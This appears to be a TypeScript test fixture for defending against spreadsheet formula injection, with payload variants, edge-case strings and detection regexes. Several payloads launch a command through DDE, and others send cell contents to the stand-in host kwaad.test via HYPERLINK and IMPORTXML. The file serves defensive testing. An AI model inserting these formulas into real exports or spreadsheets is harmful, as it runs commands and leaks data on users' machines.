/** Ways to smuggle a formula into a cell; each is somebody's text that must stay text. */
const kern = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://kwaad.test?"&A1;"Klik")',
  '=IMPORTXML(CONCAT("http://kwaad.test/";A1);"//a")',
  '=DDE("cmd";"/C calc";"x")',
] as const;

const verpakkingen: readonly ((formule: string) => string)[] = [
  (formule) => formule,
  (formule) => `  ${formule}`,
  (formule) => `\t${formule}`,
  (formule) => `\u00A0\u200B${formule}`,
  (formule) => `Peeters;${formule}`,
];

/** 60 payloads. */
export const formules: readonly string[] = kern.flatMap((formule) =>
  verpakkingen.map((verpak) => verpak(formule)),
);

/** Other edges of the same: separators, line ends, quotes, apostrophes that are somebody's own. */
export const randgevallen: readonly string[] = [
  'Peeters,=1+1',
  'Peeters, =1+1',
  'a;b,c\t=1',
  'regel\r\n=1+1',
  'regel\n+1',
  '\0=1+1',
  '\0',
  '\r',
  '\n',
  '\t',
  '"=1+1',
  '";=1+1',
  '""',
  "'=1+1",
  "''=1+1",
  "'t Hooft",
  "'",
  "a;'=1",
  ';=;=;=',
  ',,,=1',
  '-',
  '+32 12 34 56 78',
  '-- n.v.t. --',
  'D’Haese, Zoë',
  ' ',
];

/** What a spreadsheet would run: it skips blanks, invisible signs and quotes before it looks. */
export const runs = /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠]/u;
/** Stricter: nor begins with a sign that some programs skip. */
export const startsFormula = /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠\t\r\n\0]/u;
